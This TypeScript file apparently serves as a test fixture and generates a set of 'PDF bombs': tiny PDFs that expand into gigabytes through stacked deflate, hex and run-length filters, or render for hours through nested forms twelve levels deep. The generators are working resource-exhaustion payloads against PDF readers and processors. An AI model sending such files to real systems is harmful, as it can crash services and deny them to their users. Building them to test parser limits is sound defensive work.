import { constants, deflateRawSync, deflateSync } from 'node:zlib'

const MEBIBYTE = 1024 * 1024

interface Part {
  readonly dictionary: string
  readonly bytes?: Uint8Array
}

/** `megabytes` of spaces, deflated once, of which each part stands for itself: made in no time. */
function deflatedSpaces(megabytes: number): Buffer {
  const part = deflateRawSync(Buffer.alloc(16 * MEBIBYTE, ' '), { finishFlush: constants.Z_FULL_FLUSH })
  const head = Buffer.from([0x78, 0x9c])
  return Buffer.concat([
    head,
    ...new Array<Buffer>(megabytes / 16).fill(part),
    Buffer.from([3, 0, 0, 0, 0, 1]),
  ])
}

function pdfOf(parts: readonly Part[]): Uint8Array {
  const written = parts.flatMap(({ dictionary, bytes }, at) => {
    const head = `${at + 1} 0 obj\n<< ${dictionary}${bytes ? ` /Length ${bytes.length}` : ''} >>\n`
    const stream = bytes ? [Buffer.from('stream\n'), bytes, Buffer.from('\nendstream\n')] : []
    return [Buffer.from(head), ...stream, Buffer.from('endobj\n')]
  })
  const trailer = `trailer\n<< /Size ${parts.length + 1} /Root 1 0 R >>\nstartxref\n0\n%%EOF\n`
  return Buffer.concat([Buffer.from('%PDF-1.7\n'), ...written, Buffer.from(trailer)])
}

const FONT =
  '/Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /X 5 0 R >> >>'

/** One page with these contents, of which the fourth part is the first that is free. */
const page = (contents: string, ...rest: readonly Part[]) =>
  pdfOf([
    { dictionary: '/Type /Catalog /Pages 2 0 R' },
    { dictionary: '/Type /Pages /Kids [3 0 R] /Count 1' },
    { dictionary: `/Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] ${FONT} /Contents ${contents}` },
    ...rest,
  ])

const FLATE = '/Filter /FlateDecode'
const GIGABYTE = 1024

/** Forms that each show the next ten times: `depth` of them are 10 to its power. */
function laughing(depth: number): Uint8Array {
  const forms = Array.from({ length: depth }, (_, at): Part => {
    const last = at === depth - 1
    return {
      dictionary: `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X ${at + 6} 0 R >> >>`,
      bytes: Buffer.from(last ? 'BT (haha) Tj ET' : '/X Do '.repeat(10)),
    }
  })
  return page('4 0 R', { dictionary: '', bytes: Buffer.from('/X Do') }, ...forms)
}

/** Small PDFs that unpack into gigabytes or hours, by what they do. */
export const PDF_BOMBS: Readonly<Record<string, () => Uint8Array>> = {
  'contents deflated twice': () =>
    page('4 0 R', {
      dictionary: '/Filter [/FlateDecode /FlateDecode]',
      bytes: deflateSync(deflatedSpaces(2 * GIGABYTE)),
    }),
  'contents deflated thrice': () =>
    page('4 0 R', {
      dictionary: '/Filter [/FlateDecode /FlateDecode /FlateDecode]',
      bytes: deflateSync(deflateSync(deflatedSpaces(2 * GIGABYTE))),
    }),
  'contents deflated once': () => page('4 0 R', { dictionary: FLATE, bytes: deflatedSpaces(GIGABYTE) }),
  'many streams that are small each': () =>
    page(
      `[${Array.from({ length: 20 }, (_, at) => `${at + 4} 0 R`).join(' ')}]`,
      ...Array.from({ length: 20 }, () => ({ dictionary: FLATE, bytes: deflatedSpaces(64) })),
    ),
  'one stream shown ten thousand times': () =>
    page(`[${'4 0 R '.repeat(10_000)}]`, { dictionary: FLATE, bytes: deflatedSpaces(96) }),
  'contents that call themselves a picture': () =>
    page('4 0 R', { dictionary: `/Subtype /Image ${FLATE}`, bytes: deflatedSpaces(2 * GIGABYTE) }),
  'contents deflated, then in hexadecimal digits': () =>
    page('4 0 R', {
      dictionary: '/Filter [/ASCIIHexDecode /FlateDecode]',
      bytes: Buffer.from(`${deflatedSpaces(2 * GIGABYTE).toString('hex')}>`),
    }),
  'runs of one letter': () =>
    page('4 0 R', {
      dictionary: '/Filter [/FlateDecode /RunLengthDecode]',
      bytes: deflateSync(Buffer.alloc(60 * MEBIBYTE, Buffer.from([0x81, 0x20]))),
    }),
  'a predictor over gigabytes': () =>
    page('4 0 R', {
      dictionary: `${FLATE} /DecodeParms << /Predictor 12 /Columns 1000000000 >>`,
      bytes: deflatedSpaces(2 * GIGABYTE),
    }),
  'a stream of objects': () =>
    page('4 0 R', {
      dictionary: `/Type /ObjStm /N 1000000 /First 100000000 ${FLATE}`,
      bytes: deflatedSpaces(GIGABYTE),
    }),
  'a table of references as a stream': () =>
    page('4 0 R', {
      dictionary: `/Type /XRef /W [8 8 8] /Size 90000000 /Root 1 0 R ${FLATE}`,
      bytes: deflatedSpaces(2 * GIGABYTE),
    }),
  'an encrypted stream': () =>
    page('4 0 R', { dictionary: '/Filter [/Crypt /FlateDecode]', bytes: deflatedSpaces(GIGABYTE) }),
  'forms in forms': () => laughing(12),
}
